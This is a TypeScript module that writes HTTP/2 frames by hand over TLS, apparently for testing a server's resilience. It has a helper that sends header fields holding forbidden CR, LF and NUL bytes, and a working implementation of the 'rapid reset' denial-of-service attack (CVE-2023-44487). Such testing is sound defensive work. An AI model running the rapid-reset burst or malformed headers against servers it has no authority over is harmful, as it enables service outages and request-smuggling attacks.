// HTTP/2 frames written by hand, for requests no client library would send: fields whose
// names or values hold bytes RFC 9113 forbids (CR, LF, NUL), each a literal HPACK field
// without Huffman coding, on one stream of a new TLS connection. What came back is read as
// frames: the DATA of stream 1 (the body, never HPACK-coded), and any RST_STREAM or GOAWAY.
import tls from "node:tls";

/** An HPACK integer with an `n`-bit prefix (RFC 7541 5.1), `flags` in the first byte's top bits. */
function hpackInt(value: number, n: number, flags: number): number[] {
  const max = (1 << n) - 1;
  if (value < max) return [flags | value];
  const out = [flags | max];
  let v = value - max;
  while (v >= 128) {
    out.push((v % 128) + 128);
    v = Math.floor(v / 128);
  }
  out.push(v);
  return out;
}

/** "Literal Header Field without Indexing — New Name" (RFC 7541 6.2.2), raw bytes (latin1). */
function literal(name: string, value: string): Buffer {
  const n = Buffer.from(name, "latin1");
  const v = Buffer.from(value, "latin1");
  return Buffer.concat([Buffer.from([0x00, ...hpackInt(n.length, 7, 0)]), n, Buffer.from(hpackInt(v.length, 7, 0)), v]);
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A new TLS connection (ALPN h2) that sends the client preface, an empty SETTINGS and
 *  `frames`, then hands each frame the server sends to `onFrame` (its SETTINGS acknowledged,
 *  as a client must) until `onFrame` returns true, the connection goes, or `ms` pass. */
function exchange(base: string, ca: string, frames: Buffer[], onFrame: (type: number, flags: number, stream: number, payload: Buffer) => boolean, ms: number): Promise<void> {
  const u = new URL(base);
  return new Promise((resolve) => {
    let buf = Buffer.alloc(0);
    const sock = tls.connect({ host: u.hostname, port: Number(u.port), ca, ALPNProtocols: ["h2"] }, () => {
      sock.write(Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(4, 0, 0, Buffer.alloc(0)), ...frames]));
    });
    const done = () => {
      clearTimeout(timer);
      sock.destroy();
      resolve();
    };
    const timer = setTimeout(done, ms);
    sock.on("error", done);
    sock.on("close", done);
    sock.on("data", (d: Buffer) => {
      buf = Buffer.concat([buf, d]);
      while (buf.length >= 9) {
        const len = buf.readUIntBE(0, 3);
        if (buf.length < 9 + len) break;
        const [type, flags] = [buf[3], buf[4]];
        const stream = buf.readUInt32BE(5) & 0x7fffffff;
        const payload = buf.subarray(9, 9 + len);
        buf = buf.subarray(9 + len);
        if (type === 4 && !(flags & 0x1)) sock.write(frame(4, 0x1, 0, Buffer.alloc(0)));
        if (onFrame(type, flags, stream, payload)) return done();
      }
    });
  });
}

export interface RawH2Answer {
  /** Stream 1's DATA, concatenated. */
  data: Buffer;
  /** Stream 1 ended with END_STREAM. */
  ended: boolean;
  /** RST_STREAM's error code for stream 1, or null. */
  reset: number | null;
  /** GOAWAY's error code, or null. */
  goaway: number | null;
}

/** Sends one request whose fields (pseudo-fields first, as given) are written byte for byte,
 *  and reads until stream 1 ends, is reset, the connection goes, or `ms` pass. */
export async function rawH2Request(base: string, ca: string, fields: Array<[string, string]>, ms = 5_000): Promise<RawH2Answer> {
  const answer: RawH2Answer = { data: Buffer.alloc(0), ended: false, reset: null, goaway: null };
  const block = Buffer.concat(fields.map(([k, v]) => literal(k, v)));
  await exchange(base, ca, [frame(1, 0x1 | 0x4, 1, block)], (type, flags, stream, payload) => {
    if (stream === 1 && type === 0) answer.data = Buffer.concat([answer.data, payload]);
    if (stream === 1 && (type === 0 || type === 1) && flags & 0x1) answer.ended = true;
    if (stream === 1 && type === 3) answer.reset = payload.readUInt32BE(0);
    if (type === 7) answer.goaway = payload.readUInt32BE(4);
    return answer.ended || answer.reset !== null || answer.goaway !== null;
  }, ms);
  return answer;
}

/** The "rapid reset" attack (CVE-2023-44487): `n` streams opened and at once cancelled
 *  (HEADERS then RST_STREAM CANCEL) in one burst on one connection. Resolves with the GOAWAY
 *  code the server sent (null: none) and how many of those streams it began to answer. */
export async function rapidReset(base: string, ca: string, path: string, n: number, ms = 10_000): Promise<{ goaway: number | null; answered: number }> {
  const host = new URL(base).host;
  const block = Buffer.concat([literal(":method", "GET"), literal(":scheme", "https"), literal(":authority", host), literal(":path", path)]);
  const cancel = Buffer.alloc(4);
  cancel.writeUInt32BE(8); // CANCEL
  const frames: Buffer[] = [];
  for (let i = 0; i < n; i++) frames.push(frame(1, 0x1 | 0x4, 2 * i + 1, block), frame(3, 0, 2 * i + 1, cancel));
  let goaway: number | null = null;
  let answered = 0;
  await exchange(base, ca, frames, (type, _flags, _stream, payload) => {
    if (type === 1) answered++;
    if (type === 7) goaway = payload.readUInt32BE(4);
    return goaway !== null;
  }, ms);
  return { goaway, answered };
}
